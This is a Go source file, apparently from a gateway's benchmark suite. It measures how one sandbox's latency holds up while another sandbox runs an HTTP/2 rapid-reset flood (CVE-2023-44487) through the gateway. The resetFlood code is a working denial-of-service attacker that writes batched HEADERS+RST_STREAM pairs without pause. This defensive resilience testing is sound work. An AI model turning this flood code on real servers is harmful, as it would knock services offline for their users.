package main

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/url"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/sandgate/sandgate/bench/internal/load"
	"github.com/sandgate/sandgate/bench/internal/proc"
)

// ResetOptions sizes the HTTP/2 rapid-reset phase.
type ResetOptions struct {
	Duration time.Duration // each measurement of the victim
	Warmup   time.Duration // the victim's warm-up, and the attacker's head start
	Conns    int           // the attacker's HTTP/2 connections
	Batch    int           // HEADERS+RST_STREAM pairs written between flushes
	P99      time.Duration // the target: the victim's p99 during the flood under this
}

func (o *ResetOptions) register(fs *flag.FlagSet) {
	fs.DurationVar(&o.Duration, "reset-duration", 8*time.Second, "reset: each measurement of the victim sandbox")
	fs.DurationVar(&o.Warmup, "reset-warmup", 2*time.Second, "reset: the victim's warm-up and the attacker's head start")
	fs.IntVar(&o.Conns, "reset-conns", 4, "reset: the attacker's HTTP/2 connections, each opening and resetting streams with no pause")
	fs.IntVar(&o.Batch, "reset-batch", 64, "reset: HEADERS+RST_STREAM pairs written at once")
	fs.DurationVar(&o.P99, "reset-p99", 10*time.Millisecond, "reset: target p99 of the victim during the flood")
}

func (o *ResetOptions) estimate() time.Duration {
	return 2*(o.Duration+o.Warmup) + o.Warmup + 3*time.Second
}

// ResetResult is the rapid-reset phase's figures.
type ResetResult struct {
	Options    ResetOptions `json:"options"`
	Probe      ProbeOptions `json:"probe"`
	Before     load.Result  `json:"victim_alone"`
	During     load.Result  `json:"victim_during"`
	Flood      ResetStats   `json:"flood"`
	CPUms      float64      `json:"gateway_cpu_ms"` // the gateway's CPU time during the victim's measurement
	RSSBefore  uint64       `json:"rss_before"`
	RSSPeak    uint64       `json:"rss_peak"`
	GatewayEnd string       `json:"gateway_end,omitempty"`
}

// ResetStats is what the attacker did and what the gateway answered.
type ResetStats struct {
	Streams  int64          `json:"streams"`   // HEADERS+RST_STREAM pairs written to the socket
	Seconds  float64        `json:"seconds"`   // how long the flood ran
	Conns    int64          `json:"conns"`     // connections opened (reopened when the gateway closed one)
	GoAways  int64          `json:"goaways"`   // GOAWAY frames received
	Headers  int64          `json:"responses"` // response HEADERS frames received
	Closed   map[string]int `json:"closed"`    // why connections ended, by kind
	DialErrs map[string]int `json:"dial_errors,omitempty"`
}

// resetPhase: the victim's p99 alone, then while the attacker opens and at
// once resets HTTP/2 streams on a few connections, with no pause (the
// "rapid reset" of CVE-2023-44487).
func resetPhase(ctx context.Context, e *env, p *Phase) error {
	o := e.opts.Reset
	g, err := e.startGateway("reset", gwConfig{Classes: map[string]classConfig{"tenant": {}}})
	if err != nil {
		return err
	}
	defer g.stop()
	attacker, err := g.createSandbox("attacker", "tenant")
	if err != nil {
		return err
	}
	victim, err := g.createSandbox("victim", "tenant")
	if err != nil {
		return err
	}
	target, err := url.Parse(e.up.URL)
	if err != nil {
		return err
	}
	r := &ResetResult{Options: o, Probe: e.opts.Probe}
	p.Data = r
	e.progress("victim alone for %s", o.Duration)
	r.Before = e.probe(ctx, victim, o.Warmup, o.Duration)
	r.RSSBefore = g.rss()

	fctx, stopFlood := context.WithCancel(ctx)
	fl := &resetFlood{o: o, sb: attacker, target: target, closed: map[string]int{}, dialErrs: map[string]int{}}
	var wg sync.WaitGroup
	start := time.Now()
	for range o.Conns {
		wg.Go(func() { fl.run(fctx) })
	}
	sampler := proc.Sample(g.PID(), 100*time.Millisecond)
	e.progress("victim while the attacker resets streams on %d connections", o.Conns)
	sleep(ctx, o.Warmup)
	cpu0 := proc.CPU(g.PID())
	r.During = e.probe(ctx, victim, o.Warmup, o.Duration)
	r.CPUms = float64((proc.CPU(g.PID()) - cpu0).Milliseconds())
	stopFlood()
	wg.Wait()
	r.RSSPeak = sampler.Stop()
	r.Flood = fl.stats(time.Since(start))
	e.progress("flood: %d streams opened and reset in %.0f s on %d connections", r.Flood.Streams, r.Flood.Seconds, r.Flood.Conns)
	r.GatewayEnd = g.ExitState()
	p.Targets = r.targets()
	return nil
}

// resetFlood is the attacker: each worker keeps one HTTP/2 connection
// through the gateway busy with streams opened and reset at once, and opens
// another when the gateway ends it.
type resetFlood struct {
	o      ResetOptions
	sb     *sandbox
	target *url.URL

	streams, conns, goaways, headers atomic.Int64

	mu       sync.Mutex
	closed   map[string]int
	dialErrs map[string]int
}

func (f *resetFlood) run(ctx context.Context) {
	for ctx.Err() == nil {
		why, err := f.conn(ctx)
		f.mu.Lock()
		var pr *protoRefused
		if errors.As(err, &pr) {
			f.dialErrs["h2 not offered (ALPN agreed: "+pr.got+")"]++
		} else if err != nil {
			f.dialErrs[errKind(err)]++
		} else {
			f.closed[why]++
		}
		f.mu.Unlock()
		if err != nil {
			sleep(ctx, 50*time.Millisecond) // no busy loop against a refusing gateway
		}
	}
}

// conn runs one connection until ctx ends or the gateway ends it, and says
// how it ended; an error is a connection that could not be opened.
func (f *resetFlood) conn(ctx context.Context) (string, error) {
	d := net.Dialer{Timeout: 10 * time.Second}
	c, err := d.DialContext(ctx, "tcp", f.sb.addr)
	if err != nil {
		return "", err
	}
	defer c.Close()
	ic, err := handshake(ctx, c, f.sb, f.target, "h2")
	if err != nil {
		return "", err
	}
	tc := ic.tls
	_ = tc.SetDeadline(time.Time{})
	f.conns.Add(1)
	stop := context.AfterFunc(ctx, func() { _ = tc.SetDeadline(time.Now()) })
	defer stop()

	w := bufio.NewWriterSize(tc, 64<<10)
	fr := http2.NewFramer(w, bufio.NewReader(tc))
	var ended atomic.Value // string: why the reader saw the connection end
	readDone := make(chan struct{})
	go func() {
		defer close(readDone)
		for {
			frame, err := fr.ReadFrame()
			if err != nil {
				ended.Store(endKind(ctx, err))
				_ = tc.SetDeadline(time.Now()) // the writer stops too
				return
			}
			switch frame.(type) {
			case *http2.GoAwayFrame:
				f.goaways.Add(1)
			case *http2.HeadersFrame:
				f.headers.Add(1)
			}
		}
	}()
	why := f.write(ctx, w, fr)
	<-readDone
	if s, ok := ended.Load().(string); ok && why == "" {
		why = s
	}
	return why, nil
}

// write sends the preface and then HEADERS+RST_STREAM pairs until the
// connection fails or ctx ends; "" when the reader is to say why.
func (f *resetFlood) write(ctx context.Context, w *bufio.Writer, fr *http2.Framer) string {
	if _, err := w.WriteString(http2.ClientPreface); err != nil {
		return endKind(ctx, err)
	}
	if err := fr.WriteSettings(); err != nil {
		return endKind(ctx, err)
	}
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", f.target.Host}, {":path", "/reset"}} {
		_ = enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	block := hb.Bytes()
	for id := uint32(1); id < 1<<31-2 && ctx.Err() == nil; {
		for range f.o.Batch {
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
				return endKind(ctx, err)
			}
			if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
				return endKind(ctx, err)
			}
			id += 2
		}
		if err := w.Flush(); err != nil {
			return ""
		}
		f.streams.Add(int64(f.o.Batch))
	}
	return "flood stopped"
}

// endKind names how a connection ended.
func endKind(ctx context.Context, err error) string {
	if ctx.Err() != nil {
		return "flood stopped"
	}
	var ge http2.GoAwayError
	if errors.As(err, &ge) {
		return "GOAWAY " + ge.ErrCode.String()
	}
	return "closed by the gateway: " + errKind(err)
}

func (f *resetFlood) stats(d time.Duration) ResetStats {
	f.mu.Lock()
	defer f.mu.Unlock()
	return ResetStats{Streams: f.streams.Load(), Seconds: d.Seconds(), Conns: f.conns.Load(),
		GoAways: f.goaways.Load(), Headers: f.headers.Load(), Closed: f.closed, DialErrs: f.dialErrs}
}

func (r *ResetResult) targets() []Target {
	d := r.During
	return []Target{{
		What: fmt.Sprintf("another sandbox's p99 under %s during an HTTP/2 rapid-reset flood", r.Options.P99),
		Got: fmt.Sprintf("%.1f ms (%.1f ms alone); %d requests, %d failed; the flood: %s streams written in %.0f s on %d h2 connections; gateway %s",
			d.P99, r.Before.P99, d.Requests, d.Errors, thousands(r.Flood.Streams), r.Flood.Seconds, r.Flood.Conns, upText(r.GatewayEnd)),
		Met: r.GatewayEnd == "" && d.Requests > 0 && d.Errors == 0 && d.P99 < float64(r.Options.P99)/float64(time.Millisecond),
	}}
}
